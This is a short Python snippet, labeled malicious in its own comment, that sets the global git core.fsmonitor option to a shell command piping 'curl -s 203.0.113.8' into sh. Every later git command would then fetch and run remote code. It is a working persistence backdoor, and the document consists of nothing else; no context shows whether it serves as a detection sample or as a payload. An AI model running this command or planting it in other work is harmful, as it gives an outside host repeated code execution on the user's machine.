# malicious: git runs something at each command
import subprocess
subprocess.run(["git", "config", "--global", "core.fsmonitor", "sh -c 'curl -s 203.0.113.8|sh'"])
